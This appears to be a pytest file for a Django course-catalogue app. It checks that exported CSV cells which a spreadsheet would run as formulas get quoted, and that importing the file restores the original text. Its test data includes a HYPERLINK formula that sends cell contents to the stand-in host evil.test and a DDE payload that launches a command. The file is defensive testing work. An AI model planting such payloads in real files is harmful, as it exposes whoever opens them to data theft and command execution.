"""Every CSV the campus writes opens in a spreadsheet as data, never as a formula, and the
campus reads its own files back unchanged."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from campus.catalog import services
from campus.catalog.models import Course
from campus.csv_cells import cell_protect, cell_restore, csv_text
from campus.people.models import Role
from tests.factories import CourseFactory, InstitutionFactory, PersonFactory, RunFactory

FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click")'


@pytest.mark.parametrize(
    "value",
    [FORMULA, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1", "\r=1", "'=1", "''@x"],
)
def test_a_cell_that_a_spreadsheet_would_run_is_quoted(value):
    protected = cell_protect(value)
    assert protected == "'" + value
    assert cell_restore(protected) == value


@pytest.mark.parametrize("value", ["-2", "+3.5", "-0,5", "1e-3", "Energy basics", "'quoted", ""])
def test_numbers_and_plain_text_are_written_as_they_are(value):
    assert cell_protect(value) == value
    assert cell_restore(value) == value


@given(st.text())
def test_restoring_undoes_protecting_for_any_text(value):
    assert cell_restore(cell_protect(value)) == value


def test_csv_text_protects_every_cell_and_stays_valid_csv():
    text = csv_text(["name", "grade"], [["@admin", "-1"], [None, "=2"]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "grade"],
        ["'@admin", "-1"],
        ["", "'=2"],
    ]


def _cells(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.django_db
def test_the_catalogue_export_quotes_formulas_and_its_import_restores_them(client):
    geel = InstitutionFactory(code="B  GEEL07")
    admin = PersonFactory(roles=[Role.ADMIN])
    services.course_create(
        by=admin,
        hosts=[geel],
        code="GEEL-F-1",
        type="course",
        title=FORMULA,
        description="-- a description that starts like a formula",
        ects="5",
        eqf_level=6,
        isced_field="0713",
        languages=["en"],
        mode="online",
        workload_hours=140,
        assessment="exam",
        audience=["students"],
        themes=[],
        outcomes=[("@mention the energy balance", [])],
    )
    client.force_login(admin)
    first = client.get(reverse("catalog:catalogue_export"))
    header, row = _cells(first)
    cells = dict(zip(header, row, strict=True))
    assert cells["title"] == "'" + FORMULA
    assert cells["description"].startswith("'--")
    assert cells["outcomes"].startswith("'@mention")

    Course.objects.all().delete()
    preview = client.post(
        reverse("catalog:catalogue_import"),
        {"file": SimpleUploadedFile("c.csv", first.content, content_type="text/csv")},
    )
    assert preview.status_code == 200
    confirm = client.post(
        reverse("catalog:catalogue_import"),
        {"content": preview.context["content"], "confirm": "1"},
    )
    assert confirm.status_code == 302
    course = Course.objects.get(code="GEEL-F-1")
    assert course.title == FORMULA
    assert course.description == "-- a description that starts like a formula"
    assert course.outcomes.get().text == "@mention the energy balance"
    assert client.get(reverse("catalog:catalogue_export")).content == first.content


@pytest.mark.django_db
def test_the_participants_csv_quotes_a_name_that_is_a_formula(client):
    geel = InstitutionFactory()
    lecturer = PersonFactory(institution=geel, roles=[Role.LECTURER])
    run = RunFactory(course=CourseFactory(hosts=[geel]))
    run.teachers.add(lecturer)
    student = PersonFactory(institution=geel, roles=[Role.STUDENT], display_name=FORMULA)
    services.enrol(run=run, person=student, by=student)
    client.force_login(lecturer)

    response = client.get(reverse("catalog:run_participants_csv", args=[run.pk]))

    header, row = _cells(response)
    assert dict(zip(header, row, strict=True))["name"] == "'" + FORMULA
